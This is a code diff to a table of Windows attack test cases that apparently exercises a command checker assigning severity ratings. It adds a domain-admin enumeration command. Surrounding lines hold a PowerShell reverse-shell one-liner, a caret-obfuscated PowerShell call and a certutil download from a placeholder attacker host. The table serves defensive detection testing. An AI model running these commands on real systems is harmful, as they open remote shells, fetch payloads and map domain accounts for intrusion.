@@ -62,6 +62,7 @@ export const windowsAttackCases: CallCheckCases = {
       "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1', 4444); $s = $c.GetStream(); iex $data",
       'critical',
     ],
+    'accounts of the domain': ['net group "Domain Admins" /domain', 'high'],
     'a hidden name': ['p^o^w^e^r^s^h^e^l^l -c whoami', 'high'],
     'an abuse inside of a POSIX line': [
       "cmd /c 'certutil -urlcache -f http://evil.example/a a.exe'",
